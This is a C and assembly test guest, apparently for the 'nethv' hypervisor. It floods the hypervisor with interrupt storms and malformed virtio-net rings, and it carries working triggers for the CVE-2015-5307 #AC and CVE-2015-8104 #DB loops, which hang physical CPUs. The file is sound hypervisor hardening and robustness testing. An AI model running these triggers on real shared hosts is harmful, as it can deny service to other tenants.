/*
 * An attacking guest (tests/boot/attacks.sh): one attack, named by the
 * Multiboot command line ("attack=NAME"), run beside heartbeat victims
 * (guest/tests/heartbeat.c).  It alternates phases on the TSC, which
 * nethv gives every VM unoffset, so the victims' windows line up with them:
 *
 *   atk: idle T        spinning, no exits: the victims' reference rate
 *   atk: attack NAME T the attack
 *   atk: end T         (T = TSC >> 10)
 *   atk: done NAME made N UNIT [, extra]
 *
 * Attacks (each counts what it did, so that the test knows it was made):
 *   db_storm     TF kept set by the #DB handler: a #DB after every
 *                instruction -- with #DB intercepted, one exit each
 *   wbinvd       WBINVD in a loop
 *   state_write  DR0-DR3 set to patterns (DR7 off) and IA32_SPEC_CTRL to
 *                every bit CPUID offers, with an IBPB through PRED_CMD on
 *                each check: the heartbeat on this CPU must still read 0 in
 *                its own; this guest checks that its values survive the
 *                neighbour's turns.  Where CPUID offers no SPEC_CTRL, its
 *                reads must raise #GP; RDPKRU must raise #UD (no PKU)
 *   lapic_storm  LAPIC timer periodic with initial count 1 (PC platform)
 *   pit_storm    PIT channel 0 rate generator with reload 1, its IRQ 0 through
 *                IOAPIC pin 2 (nethv's MADT override; PC platform)
 *   ipi_storm    fixed self-IPIs through the ICR as fast as it can (PC)
 *   console_flood  lines full of terminal escape sequences, as fast as it
 *                can: nethv must show them escaped and drop what is over
 *                the VM's console rate, saying how much
 * and on the VM's two virtio-net ports (config/attack.dts), through the
 * small driver below:
 *   rx_zero      receive chains of zero-length buffers, hit by broadcasts
 *   desc_loop    descriptor loops, index jumps, heads and buffers out of range
 *   msix_low     MSI-X messages with vectors 0-15
 *   mac_flood    random source MACs and the neighbour port's
 *   tx_flood     runts, oversize frames, checksum offsets past the end,
 *                from both vCPUs, the second also rewriting the first's ring
 * and with its second vCPU (config/attack.dts):
 *   sipi_storm   INIT, SIPI, NMI and fixed IPIs at it, and IPIs to nowhere
 * and:
 *   ac_loop      the #AC delivery loop (CVE-2015-5307): never ends; nethv
 *                must stop this VM
 *   db_loop      the #DB delivery loop on an IST stack (CVE-2015-8104), in
 *                long mode: the same
 */
#include "../lib/guest.h"
#include <stddef.h>
#include "../../include/nethv/virtio.h"

static unsigned phase_shift = 24;      /* the heartbeat's window: "shift=N" */
#define LAPIC       0xfee00000u

static uint64_t rdtsc64(void)
{
    uint32_t lo, hi;
    __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
    return (uint64_t)hi << 32 | lo;
}

static char attack[32];

/* the TSC rate, measured against PIT channel 2 over 10 ms (the PC platform;
 * nethv's PIT counts at 1.193182 MHz in guest time) */
static uint64_t tsc_hz_guess(void)
{
    outb(0x61, (inb(0x61) & ~0x02) | 0x01);     /* channel 2 gate on, speaker off */
    outb(0x43, 0xb0);                           /* channel 2, lo/hi, mode 0 */
    outb(0x42, 11932 & 0xff);
    outb(0x42, 11932 >> 8);
    uint64_t t0 = rdtsc64();
    for (uint32_t i = 0; i < 100000000u && !(inb(0x61) & 0x20); i++)
        ;
    return (rdtsc64() - t0) * 100;
}
static uint32_t phase_windows = 40;
static uint32_t idle_windows;           /* "idle=N"; 0: phase_windows */

static bool word_is(const char *c, const char *k, const char **val)
{
    unsigned i = 0;
    while (k[i] && c[i] == k[i])
        i++;
    if (k[i])
        return false;
    *val = c + i;
    return true;
}

/* "ap_sti": the second vCPU waits with interrupts on, for Bochs 2.7's SVM
 * (attacks.sh, platform ryzen), which masks physical interrupts -- the
 * host's timer tick and IPIs included -- while a guest runs with IF=0
 * (VMRUN loads the guest's RFLAGS before it marks the CPU as in guest mode,
 * cpu/svm.cc; AMD APM 2 15.21.1 says the host's IF governs them under
 * V_INTR_MASKING): an IF=0 spinner there keeps its CPU until it exits */
static bool ap_sti;

static void parse_cmdline(uint32_t magic, uint32_t mbi)
{
    if (magic != 0x2badb002u || !(*(volatile uint32_t *)mbi & (1u << 2)))
        return;
    for (const char *c = (const char *)*(volatile uint32_t *)(mbi + 16); *c; c++) {
        const char *v;
        if (word_is(c, "attack=", &v)) {
            unsigned i = 0;
            while (v[i] && v[i] != ' ' && i < sizeof(attack) - 1) {
                attack[i] = v[i];
                i++;
            }
            attack[i] = 0;
        } else if (word_is(c, "shift=", &v)) {
            uint32_t n = 0;
            for (; *v >= '0' && *v <= '9'; v++)
                n = n * 10 + (uint32_t)(*v - '0');
            if (n >= 16 && n <= 34)
                phase_shift = n;
        } else if (word_is(c, "idle=", &v)) {
            uint32_t n = 0;
            for (; *v >= '0' && *v <= '9'; v++)
                n = n * 10 + (uint32_t)(*v - '0');
            idle_windows = n;
        } else if (word_is(c, "ap_sti", &v)) {
            ap_sti = true;
        } else if (word_is(c, "windows=", &v)) {
            uint32_t n = 0;
            for (; *v >= '0' && *v <= '9'; v++)
                n = n * 10 + (uint32_t)(*v - '0');
            if (n)
                phase_windows = n;
        }
    }
}

static bool streq(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

static uint64_t phase_end;
static volatile uint32_t count;

/* The second vCPU spins from before the idle phase to the attack's end, so
 * that hb1, on its CPU, has the same neighbour in both phases; tx_flood
 * gives it work (ap_task).  An INIT-SIPI (sipi_storm) brings it back here. */
static uint8_t ap_stack[4096] __attribute__((aligned(16)));
static void (*volatile ap_task)(void);
static volatile uint32_t ap_quit;

static void ap_loop(void)
{
    if (ap_sti)
        __asm__ volatile("sti");
    while (!__atomic_load_n(&ap_quit, __ATOMIC_ACQUIRE)) {
        void (*t)(void) = ap_task;
        if (t) {
            t();
            ap_task = NULL;
        }
        __asm__ volatile("pause");
    }
}

/* ---- db_storm ---- */
static void on_db(struct guest_frame *f)
{
    count++;
    if (rdtsc64() >= phase_end)
        f->eflags &= ~0x100u;           /* the phase is over: stop stepping */
    else
        f->eflags |= 0x100u;
}

static void db_storm(void)
{
    set_handler(1, on_db);
    __asm__ volatile("pushfl; orl $0x100, (%%esp); popfl" ::: "memory");
    while (rdtsc64() < phase_end)
        __asm__ volatile("nop");
    __asm__ volatile("pushfl; andl $~0x100, (%%esp); popfl" ::: "memory");
}

/* ---- wbinvd ---- */
static void wbinvd_loop(void)
{
    while (rdtsc64() < phase_end) {
        __asm__ volatile("wbinvd" ::: "memory");
        count++;
    }
}

/* ---- state_write ---- */
static const uint32_t dr_pat[4] = { 0x11111110u, 0x22222220u, 0x33333330u, 0x44444440u };
static uint32_t dr_lost, spec_lost, spec_bits, spec_gp, spec_read_ok;

/* RDMSR/WRMSR that fault resume after themselves (2 bytes) */
static void on_gp(struct guest_frame *f)
{
    spec_gp++;
    f->eip += 2;
}

/* RDPKRU (0f 01 ee): nethv offers no PKU, so PKRU -- the host's, or
 * another VM's -- is out of reach: #UD, resumed after it */
static uint32_t pkru_ud, pkru_read;
static void on_ud(struct guest_frame *f)
{
    pkru_ud++;
    f->eip += 3;
}

static void state_write(void)
{
    __asm__ volatile("mov %0, %%dr0; mov %1, %%dr1; mov %2, %%dr2; mov %3, %%dr3"
                     :: "r"(dr_pat[0]), "r"(dr_pat[1]), "r"(dr_pat[2]), "r"(dr_pat[3]));
    spec_bits = spec_ctrl_offered();
    set_handler(13, on_gp);
    set_handler(6, on_ud);
    uint32_t r7[4] = { 0, 0, 0, 0 }, r0[4];
    cpuid(0, 0, r0);
    if (r0[0] >= 7)
        cpuid(7, 0, r7);
    if (r7[2] & (1u << 3))              /* PKU offered: a neighbour's PKRU would show */
        print("atk: FAIL state_write: CPUID offers PKU, which nethv does not switch\n");
    if (spec_bits)
        __asm__ volatile("wrmsr" :: "c"(MSR_SPEC_CTRL), "a"(spec_bits), "d"(0) : "memory");
    while (rdtsc64() < phase_end) {
        uint32_t d0, d3, lo = 0xdead, hi = 0;
        __asm__ volatile("mov %%dr0, %0; mov %%dr3, %1" : "=r"(d0), "=r"(d3));
        if (d0 != dr_pat[0] || d3 != dr_pat[3])
            dr_lost++;
        uint32_t gp = spec_gp;
        __asm__ volatile("rdmsr" : "+a"(lo), "+d"(hi) : "c"(MSR_SPEC_CTRL) : "memory");
        if (spec_gp == gp)
            spec_read_ok++;
        if (spec_bits && (spec_gp != gp || lo != spec_bits || hi))
            spec_lost++;
        if (spec_bits & 1)              /* IBRS offered: so is IBPB */
            __asm__ volatile("wrmsr" :: "c"(MSR_PRED_CMD), "a"(1), "d"(0) : "memory");
        uint32_t ud = pkru_ud;
        __asm__ volatile(".byte 0x0f, 0x01, 0xee" :: "c"(0) : "eax", "edx", "memory");  /* RDPKRU */
        if (pkru_ud == ud)
            pkru_read++;
        count++;
    }
    __asm__ volatile("mov %0, %%dr0; mov %0, %%dr1; mov %0, %%dr2; mov %0, %%dr3" :: "r"(0));
    if (spec_bits)
        __asm__ volatile("wrmsr" :: "c"(MSR_SPEC_CTRL), "a"(0), "d"(0) : "memory");
}


/* ---- a minimal virtio-net driver (virtio 1.1, 4.1 PCI transport, 5.1) ----
 * For the datapath attacks: each of the VM's virtio-net functions (PCI
 * config mechanism #1), BAR 0 as its capabilities place the parts, two
 * split queues (0 RX, 1 TX) of QN entries each in this guest's memory.
 * Paging is off: guest-physical = these addresses. */
#define QN          64u
#define MAX_DEVS    2u
#define PKT_MAX     2048u

struct vq {
    struct vring_desc desc[QN] __attribute__((aligned(16)));
    struct { uint16_t flags, idx, ring[QN], used_event; } avail __attribute__((aligned(2)));
    struct { uint16_t flags, idx; struct vring_used_elem ring[QN]; uint16_t avail_event; } used
        __attribute__((aligned(4)));
};

struct vdev {
    uint32_t bdf;                       /* bus 0: slot << 11 */
    uint32_t common, notify, device;    /* addresses of the parts */
    uint32_t notify_mult;
    uint32_t msix_table;
    uint16_t qnotify[2];
    uint8_t mac[6];
    struct vq q[2];                     /* 0 RX, 1 TX */
    uint8_t buf[QN][PKT_MAX];           /* one buffer per TX descriptor */
};
static struct vdev devs[MAX_DEVS];
static unsigned ndevs;

static uint32_t pci_read32(uint32_t bdf, unsigned off)
{
    outl(0xcf8, 0x80000000u | bdf | (off & 0xfc));
    return inl(0xcfc);
}

static uint8_t pci_read8(uint32_t bdf, unsigned off)
{
    return (uint8_t)(pci_read32(bdf, off) >> (8 * (off & 3)));
}

static void mw8(uint32_t a, uint8_t v) { *(volatile uint8_t *)a = v; }
static void mw16(uint32_t a, uint16_t v) { *(volatile uint16_t *)a = v; }
static uint8_t mr8(uint32_t a) { return *(volatile uint8_t *)a; }
static uint16_t mr16(uint32_t a) { return *(volatile uint16_t *)a; }

/* Find the functions and read where their parts are; false if none. */
static bool vnet_probe(void)
{
    for (uint32_t slot = 0; slot < 32 && ndevs < MAX_DEVS; slot++) {
        uint32_t bdf = slot << 11;
        if (pci_read32(bdf, 0) != ((uint32_t)VIRTIO_PCI_DEVICE_MODERN(VIRTIO_ID_NET) << 16 | VIRTIO_PCI_VENDOR))
            continue;
        struct vdev *d = &devs[ndevs];
        d->bdf = bdf;
        uint32_t bar = pci_read32(bdf, 0x10) & ~0xfu;
        for (unsigned cap = pci_read8(bdf, 0x34), n = 0; cap && n < 16; cap = pci_read8(bdf, cap + 1), n++) {
            uint8_t id = pci_read8(bdf, cap);
            if (id == 0x11) {               /* MSI-X: table in BAR 0 */
                d->msix_table = bar + (pci_read32(bdf, cap + 4) & ~7u);
                continue;
            }
            if (id != 0x09)
                continue;
            uint32_t off = bar + pci_read32(bdf, cap + VIRTIO_PCI_CAP_OFFSET);
            switch (pci_read8(bdf, cap + VIRTIO_PCI_CAP_CFG_TYPE)) {
            case VIRTIO_PCI_CAP_COMMON_CFG: d->common = off; break;
            case VIRTIO_PCI_CAP_DEVICE_CFG: d->device = off; break;
            case VIRTIO_PCI_CAP_NOTIFY_CFG:
                d->notify = off;
                d->notify_mult = pci_read32(bdf, cap + VIRTIO_PCI_NOTIFY_MULT);
                break;
            }
        }
        if (d->common && d->notify && d->device)
            ndevs++;
    }
    return ndevs > 0;
}

/* Reset, negotiate VERSION_1 and MAC (and CSUM if want_csum), give both
 * queues (RX/TX MSI-X vectors msix[0..1], or none) and set DRIVER_OK.
 * true if the device took it all. */
static bool vnet_setup(struct vdev *d, bool want_csum, const uint16_t msix[2])
{
    uint32_t c = d->common;
    mw8(c + VIRTIO_PCI_COMMON_STATUS, 0);
    for (unsigned i = 0; i < 1000 && mr8(c + VIRTIO_PCI_COMMON_STATUS); i++)
        ;
    mw8(c + VIRTIO_PCI_COMMON_STATUS, VIRTIO_STATUS_ACKNOWLEDGE | VIRTIO_STATUS_DRIVER);
    uint32_t lo = (1u << VIRTIO_NET_F_MAC) | (want_csum ? 1u << VIRTIO_NET_F_CSUM : 0);
    mmio_write32(c + VIRTIO_PCI_COMMON_GFSELECT, 0);
    mmio_write32(c + VIRTIO_PCI_COMMON_GF, lo);
    mmio_write32(c + VIRTIO_PCI_COMMON_GFSELECT, 1);
    mmio_write32(c + VIRTIO_PCI_COMMON_GF, 1u);          /* VERSION_1 (bit 32) */
    mw8(c + VIRTIO_PCI_COMMON_STATUS, VIRTIO_STATUS_ACKNOWLEDGE | VIRTIO_STATUS_DRIVER |
                                      VIRTIO_STATUS_FEATURES_OK);
    if (!(mr8(c + VIRTIO_PCI_COMMON_STATUS) & VIRTIO_STATUS_FEATURES_OK))
        return false;
    for (unsigned qi = 0; qi < 2; qi++) {
        struct vq *q = &d->q[qi];
        for (unsigned i = 0; i < sizeof(*q); i++)
            ((volatile uint8_t *)q)[i] = 0;
        mw16(c + VIRTIO_PCI_COMMON_Q_SELECT, (uint16_t)qi);
        if (mr16(c + VIRTIO_PCI_COMMON_Q_SIZE) < QN)
            return false;
        mw16(c + VIRTIO_PCI_COMMON_Q_SIZE, QN);
        mw16(c + VIRTIO_PCI_COMMON_Q_MSIX, msix ? msix[qi] : VIRTIO_MSI_NO_VECTOR);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_DESCLO, (uint32_t)q->desc);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_DESCHI, 0);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_AVAILLO, (uint32_t)&q->avail);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_AVAILHI, 0);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_USEDLO, (uint32_t)&q->used);
        mmio_write32(c + VIRTIO_PCI_COMMON_Q_USEDHI, 0);
        d->qnotify[qi] = mr16(c + VIRTIO_PCI_COMMON_Q_NOFF);
        mw16(c + VIRTIO_PCI_COMMON_Q_ENABLE, 1);
    }
    for (unsigned i = 0; i < 6; i++)
        d->mac[i] = mr8(d->device + VIRTIO_NET_CFG_MAC + i);
    mw8(c + VIRTIO_PCI_COMMON_STATUS, VIRTIO_STATUS_ACKNOWLEDGE | VIRTIO_STATUS_DRIVER |
                                      VIRTIO_STATUS_FEATURES_OK | VIRTIO_STATUS_DRIVER_OK);
    return !(mr8(c + VIRTIO_PCI_COMMON_STATUS) & (VIRTIO_STATUS_NEEDS_RESET | VIRTIO_STATUS_FAILED));
}

static void vnet_kick(struct vdev *d, unsigned qi)
{
    mw16(d->notify + d->qnotify[qi] * d->notify_mult, (uint16_t)qi);
}

static uint8_t *vnet_tx_prep(struct vdev *d, const uint8_t dst[6], const uint8_t src[6], uint32_t len,
                             uint8_t hflags, uint16_t csum_start, uint16_t csum_off)
{
    struct vq *q = &d->q[1];
    uint16_t slot = q->avail.idx % QN;
    uint8_t *b = d->buf[slot];
    struct virtio_net_hdr *h = (struct virtio_net_hdr *)b;
    *h = (struct virtio_net_hdr){ .flags = hflags, .csum_start = csum_start, .csum_offset = csum_off };
    uint8_t *f = b + VIRTIO_NET_HDR_LEN;
    for (unsigned i = 0; i < 6; i++) {
        f[i] = dst[i];
        f[6 + i] = src[i];
    }
    f[12] = 0x88;
    f[13] = 0xb5;
    if (len > PKT_MAX - VIRTIO_NET_HDR_LEN)
        len = PKT_MAX - VIRTIO_NET_HDR_LEN;
    q->desc[slot] = (struct vring_desc){ (uint32_t)b, VIRTIO_NET_HDR_LEN + len, 0, 0 };
    q->avail.ring[slot] = slot;
    return f;
}

static void vnet_tx_queue(struct vdev *d)
{
    __asm__ volatile("" ::: "memory");
    d->q[1].avail.idx++;
}

static void vnet_tx_post(struct vdev *d)
{
    vnet_tx_queue(d);
    vnet_kick(d, 1);
}

/* One frame on the TX queue, in descriptor slot (avail idx % QN): a
 * virtio-net header (flags, csum_start/offset as given) and len bytes of
 * frame from dst/src and a 0x88b5 (local experimental) ethertype.  The
 * driver never waits for the device to use it: the ring is the attack's. */
static void vnet_tx(struct vdev *d, const uint8_t dst[6], const uint8_t src[6], uint32_t len,
                    uint8_t hflags, uint16_t csum_start, uint16_t csum_off)
{
    vnet_tx_prep(d, dst, src, len, hflags, csum_start, csum_off);
    vnet_tx_post(d);
}

static const uint8_t bcast[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
static uint32_t rng = 0x12345678u;
static uint32_t rand32(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 17;
    rng ^= rng << 5;
    return rng;
}

/* ---- rx_zero: receive chains that hold no byte, hit by broadcasts ----
 * Device 0's RX queue: every entry names one chain of QN zero-length
 * writable descriptors; device 1 broadcasts as fast as it can.  Each
 * frame would walk the chains without end: nethv must bound the walk,
 * break the queue and count the drops; the attacker resets device 0 and
 * does it again whenever the queue is broken. */
static uint32_t vnet_resets;

static void rx_zero_fill(struct vdev *d)
{
    struct vq *q = &d->q[0];
    for (unsigned i = 0; i < QN; i++)
        q->desc[i] = (struct vring_desc){ (uint32_t)d->buf[0], 0,
                                          VRING_DESC_F_WRITE | (i + 1 < QN ? VRING_DESC_F_NEXT : 0),
                                          (uint16_t)(i + 1) };
    for (unsigned i = 0; i < QN; i++)
        q->avail.ring[i] = 0;
    __asm__ volatile("" ::: "memory");
    q->avail.idx = QN;
    vnet_kick(d, 0);
}

static void rx_zero(void)
{
    if (ndevs < 2) {
        print("atk: FAIL rx_zero: needs two virtio-net devices, found %u\n", ndevs);
        return;
    }
    if (!vnet_setup(&devs[0], false, NULL) || !vnet_setup(&devs[1], false, NULL)) {
        print("atk: FAIL rx_zero: device set-up refused\n");
        return;
    }
    rx_zero_fill(&devs[0]);
    while (rdtsc64() < phase_end) {
        vnet_tx(&devs[1], bcast, devs[1].mac, 60, 0, 0, 0);
        count++;
        if ((count & 63) == 0) {        /* the queue is broken by now: again */
            vnet_resets++;
            vnet_setup(&devs[0], false, NULL);
            rx_zero_fill(&devs[0]);
        }
    }
}

static bool two_devs_up(const char *name, const uint16_t msix0[2], bool csum)
{
    if (ndevs < 2) {
        print("atk: FAIL %s: needs two virtio-net devices, found %u\n", name, ndevs);
        return false;
    }
    if (!vnet_setup(&devs[0], csum, msix0) || !vnet_setup(&devs[1], false, NULL)) {
        print("atk: FAIL %s: device set-up refused\n", name);
        return false;
    }
    return true;
}

/* ---- desc_loop: rings that lie ----
 * Device 0's TX queue, in turn: a two-descriptor loop, the avail index
 * jumped by 1000, a head past the queue's end, a buffer outside this VM's
 * memory, and a chain longer than the queue (descriptor reused).  nethv
 * must end each walk, break the queue or drop the frame, and say so; the
 * attacker resets the device after each. */
static void desc_loop(void)
{
    if (!two_devs_up("desc_loop", NULL, false))
        return;
    struct vdev *d = &devs[0];
    struct vq *q = &d->q[1];
    while (rdtsc64() < phase_end) {
        uint16_t slot = q->avail.idx % QN;
        uint32_t b = (uint32_t)d->buf[0];
        switch (count % 5) {
        case 0:                         /* 0 -> 1 -> 0 ... */
            q->desc[0] = (struct vring_desc){ b, 60, VRING_DESC_F_NEXT, 1 };
            q->desc[1] = (struct vring_desc){ b, 60, VRING_DESC_F_NEXT, 0 };
            q->avail.ring[slot] = 0;
            q->avail.idx++;
            break;
        case 1:                         /* more entries than the queue holds */
            q->desc[0] = (struct vring_desc){ b, 60, 0, 0 };
            q->avail.idx += 1000;
            break;
        case 2:                         /* a head past the end */
            q->avail.ring[slot] = QN + 5;
            q->avail.idx++;
            break;
        case 3:                         /* a buffer that is not this VM's */
            q->desc[0] = (struct vring_desc){ 0xfffff000u, 60, 0, 0 };
            q->avail.ring[slot] = 0;
            q->avail.idx++;
            break;
        case 4:                         /* next out of range mid-chain */
            q->desc[0] = (struct vring_desc){ b, 20, VRING_DESC_F_NEXT, QN + 1 };
            q->avail.ring[slot] = 0;
            q->avail.idx++;
            break;
        }
        vnet_kick(d, 1);
        count++;
        vnet_resets++;
        vnet_setup(d, false, NULL);
    }
}

/* ---- msix_low: MSI-X messages with vectors 0-15 ----
 * Device 0's queue vectors are programmed with exception vectors 0-15
 * (cycling) and device 1 sends it frames: each would raise one.  A LAPIC
 * takes no such vector (SDM 3A 11.5.3: "received illegal vector"): nethv
 * must refuse and count them; none may arrive here as an exception. */
static uint32_t low_vec_seen;
static void on_low_vec(struct guest_frame *f)
{
    low_vec_seen++;
}

static void pci_write16(uint32_t bdf, unsigned off, uint16_t v)
{
    outl(0xcf8, 0x80000000u | bdf | (off & 0xfc));
    uint32_t a = 0xcfc + (off & 2);
    __asm__ volatile("outw %0, %w1" :: "a"(v), "Nd"(a));
}

static void msix_program(struct vdev *d, uint8_t vec)
{
    for (unsigned e = 0; e < 3; e++) {
        uint32_t t = d->msix_table + 16 * e;
        mmio_write32(t + 0, 0xfee00000u);       /* to APIC ID 0 */
        mmio_write32(t + 4, 0);
        mmio_write32(t + 8, vec);               /* fixed, edge */
        mmio_write32(t + 12, 0);                /* unmasked */
    }
}

static void rx_fill(struct vdev *d)
{
    struct vq *q = &d->q[0];
    for (unsigned i = 0; i < QN; i++) {
        q->desc[i] = (struct vring_desc){ (uint32_t)d->buf[i], PKT_MAX, VRING_DESC_F_WRITE, 0 };
        q->avail.ring[i] = (uint16_t)i;
    }
    __asm__ volatile("" ::: "memory");
    q->avail.idx = QN;
    vnet_kick(d, 0);
}

static void msix_low(void)
{
    static const uint16_t vecs[2] = { 0, 1 };
    for (unsigned v = 0; v < 15; v++)
        if (v != 9)
            set_handler(v, on_low_vec);
    if (!two_devs_up("msix_low", vecs, false))
        return;
    struct vdev *d = &devs[0];
    /* PCI 3.0 6.8.2.3: Message Control bit 15 = MSI-X enable */
    unsigned cap = pci_read8(d->bdf, 0x34);
    for (unsigned n = 0; cap && pci_read8(d->bdf, cap) != 0x11 && n < 16; n++)
        cap = pci_read8(d->bdf, cap + 1);
    pci_write16(d->bdf, cap + 2, 0x8000);
    __asm__ volatile("sti");
    uint8_t vec = 0;
    while (rdtsc64() < phase_end) {
        if ((count & 31) == 0) {
            vnet_setup(d, false, vecs);
            msix_program(d, vec);
            rx_fill(d);
            vec = (uint8_t)((vec + 1) & 15);
        }
        vnet_tx(&devs[1], d->mac, devs[1].mac, 60, 0, 0, 0);
        count++;
    }
    __asm__ volatile("cli");
    mw8(d->common + VIRTIO_PCI_COMMON_STATUS, 0);
    if (low_vec_seen)
        print("atk: FAIL msix_low: %u interrupts arrived on vectors 0-15\n", low_vec_seen);
}

/* ---- mac_flood: random source MACs, and the neighbour's ----
 * Device 0 sends broadcasts from random (unicast) MACs, every 16th from
 * device 1's MAC, 32 frames to a kick: all must be dropped as spoofs, the
 * MAC table untouched. */
static void mac_flood(void)
{
    if (!two_devs_up("mac_flood", NULL, false))
        return;
    while (rdtsc64() < phase_end) {
        uint8_t src[6];
        uint32_t r = rand32(), r2 = rand32();
        src[0] = (uint8_t)((r & 0xfc) | 0x02);  /* unicast, locally administered */
        src[1] = (uint8_t)(r >> 8);
        src[2] = (uint8_t)(r >> 16);
        src[3] = (uint8_t)(r >> 24);
        src[4] = (uint8_t)r2;
        src[5] = (uint8_t)(r2 >> 8);
        vnet_tx_prep(&devs[0], bcast, (count & 15) == 15 ? devs[1].mac : src, 60, 0, 0, 0);
        vnet_tx_queue(&devs[0]);
        if ((++count & 31) == 0)
            vnet_kick(&devs[0], 1);
    }
    vnet_kick(&devs[0], 1);
}

/* ---- ac_loop: the #AC delivery loop (CVE-2015-5307) ----
 * At CPL 3 with CR0.AM, EFLAGS.AC and a misaligned stack, a misaligned
 * load raises #AC, whose gate leads to a CPL-3 handler: delivering it
 * pushes onto the same misaligned stack and raises #AC again, forever --
 * on a CPU that does not intercept #AC, a hung physical CPU.  nethv must
 * keep its CPU and stop this VM as hung.  (QEMU TCG raises no #AC: Bochs
 * only, see attacks.sh.)  Never returns if the loop is made. */
extern char ac_user[], ac_handler[];
__asm__(
    "   .text\n"
    "ac_user:\n"
    "   movl (%esp), %eax\n"            /* misaligned: #AC */
    "   jmp ac_user\n"
    "ac_handler:\n"                     /* never reached: its delivery faults */
    "   iret\n");
static uint64_t ac_gdt[6] = { 0, 0x00cf9a000000ffffull, 0x00cf92000000ffffull, 0x00cf12000000ffffull,
                              0x00cffa000000ffffull, 0x00cff2000000ffffull };   /* 0x20/0x28: DPL 3 */
static uint32_t ac_stack[64];

static void ac_loop(void)
{
    struct { uint16_t limit; uint32_t base; } __attribute__((packed)) gd = { sizeof(ac_gdt) - 1,
                                                                          (uint32_t)ac_gdt }, id;
    __asm__ volatile("lgdt %0; sidt %1" : : "m"(gd), "m"(id) : "memory");
    __asm__ volatile("sidt %0" : "=m"(id));
    volatile uint32_t *g = (volatile uint32_t *)(id.base + 8 * 17);
    uint32_t h = (uint32_t)ac_handler;
    g[0] = (h & 0xffff) | 0x20u << 16;                  /* to the DPL-3 code segment */
    g[1] = (h & 0xffff0000u) | 0xee00u;                 /* P, DPL 3, 32-bit interrupt gate */
    uint32_t cr0;
    __asm__ volatile("mov %%cr0, %0" : "=r"(cr0));
    __asm__ volatile("mov %0, %%cr0" :: "r"(cr0 | (1u << 18)));        /* AM */
    count = 1;
    __asm__ volatile(
        "   movw $0x2b, %%ax\n   movw %%ax, %%ds\n   movw %%ax, %%es\n"
        "   pushl $0x2b\n"              /* SS */
        "   pushl %0\n"                 /* ESP, 2 bytes off */
        "   pushl $0x40002\n"           /* AC */
        "   pushl $0x23\n"
        "   pushl $ac_user\n"
        "   iret\n"
        :: "r"((uint32_t)&ac_stack[63] - 2) : "eax", "memory");
}

/* ---- db_loop: the #DB delivery loop (CVE-2015-8104) ----
 * In long mode, with #DB delivered on IST stack 1 and a data breakpoint
 * (DR0/DR7) on that stack's top slot: every delivery pushes the frame onto
 * the same slot, which raises a #DB trap again before the handler's first
 * instruction, forever -- on a CPU that does not intercept #DB, a hung
 * physical CPU.  nethv must keep its CPU and stop this VM as hung.  One
 * store to the slot starts it.  The page tables map the first GiB with
 * 2 MiB pages; interrupts stay off.  Never returns if the loop is made. */
static uint64_t dl_pml4[512] __attribute__((aligned(4096)));
static uint64_t dl_pdpt[512] __attribute__((aligned(4096)));
static uint64_t dl_pd[512] __attribute__((aligned(4096)));
static uint64_t dl_ist[64] __attribute__((aligned(16)));
static uint32_t dl_tss[26] __attribute__((aligned(16)));       /* 104 bytes, IST1 at 0x24 */
static uint64_t dl_gdt[5] __attribute__((aligned(16)));        /* null, code64, data, TSS (2) */
static uint64_t dl_idt[4] __attribute__((aligned(16)));        /* vectors 0 and 1 */
struct { uint16_t limit; uint32_t base; } __attribute__((packed)) dl_gdtr;     /* LGDT in 32-bit mode */
struct { uint16_t limit; uint64_t base; } __attribute__((packed)) dl_idtr;     /* LIDT in 64-bit mode */
extern char dl_long[], dl_db[];
const char dl_none[] = "atk: FAIL db_loop: the store to the watched IST slot raised no #DB loop\n";
uint64_t *dl_slot;
__asm__(
    "   .text\n"
    "   .code64\n"
    "dl_long:\n"
    "   movw $0x10, %ax\n   movw %ax, %ds\n   movw %ax, %es\n   movw %ax, %ss\n"
    "   movl $dl_idtr, %eax\n"          /* (absolute addresses as 32-bit immediates: */
    "   lidt (%rax)\n"                  /*  an ELF32 object has no 64-bit relocations) */
    "   movw $0x18, %ax\n   ltr %ax\n"
    "   movl $dl_slot, %eax\n"
    "   movl (%rax), %eax\n"
    "   movq %rax, (%rax)\n"            /* the watched slot: a #DB trap */
    "   movl $dl_none, %esi\n"          /* not reached if the loop is made */
    "1: movb (%rsi), %al\n   testb %al, %al\n   jz 2f\n"
    "   outb %al, $0xe9\n   incl %esi\n   jmp 1b\n"              /* TESTDEV_DEBUG_PORT */
    "2: movl $1, %eax\n   outl %eax, $0xf4\n"                     /* TESTDEV_EXIT_PORT */
    "3: hlt\n   jmp 3b\n"
    "dl_db:\n"                          /* never reached: its delivery traps */
    "   iretq\n"
    "   .code32\n");

static void db_loop(void)
{
    for (unsigned i = 0; i < 512; i++)
        dl_pd[i] = (uint64_t)i << 21 | 0x83;                   /* P, RW, 2 MiB */
    dl_pdpt[0] = (uint32_t)dl_pd | 3;
    dl_pml4[0] = (uint32_t)dl_pdpt | 3;
    uint32_t top = (uint32_t)&dl_ist[64];
    dl_tss[9] = top;                                            /* IST1, low half */
    dl_tss[25] = 104u << 16;                                    /* no I/O bitmap */
    uint32_t tss = (uint32_t)dl_tss;
    dl_gdt[1] = 0x00af9a000000ffffull;                          /* 64-bit code, 0x08 */
    dl_gdt[2] = 0x00cf92000000ffffull;                          /* data, 0x10 */
    dl_gdt[3] = 103 | (uint64_t)(tss & 0xffffff) << 16 | 0x89ull << 40 |
                (uint64_t)(tss >> 24) << 56;                    /* available 64-bit TSS, 0x18 */
    uint32_t h = (uint32_t)dl_db;
    dl_idt[2] = (h & 0xffff) | 0x08u << 16 | 1ull << 32 | 0x8eull << 40 |
                (uint64_t)(h >> 16) << 48;                      /* vector 1: IST 1, interrupt gate */
    dl_gdtr.limit = sizeof(dl_gdt) - 1;
    dl_gdtr.base = (uint32_t)dl_gdt;
    dl_idtr.limit = sizeof(dl_idt) - 1;
    dl_idtr.base = (uint32_t)dl_idt;
    dl_slot = &dl_ist[63];                                      /* where SS is pushed */
    count = 1;
    __asm__ volatile(
        "   cli\n"
        "   movl %0, %%dr0\n"
        "   movl $0x000d0001, %%eax\n   movl %%eax, %%dr7\n"  /* L0, write, 4 bytes */
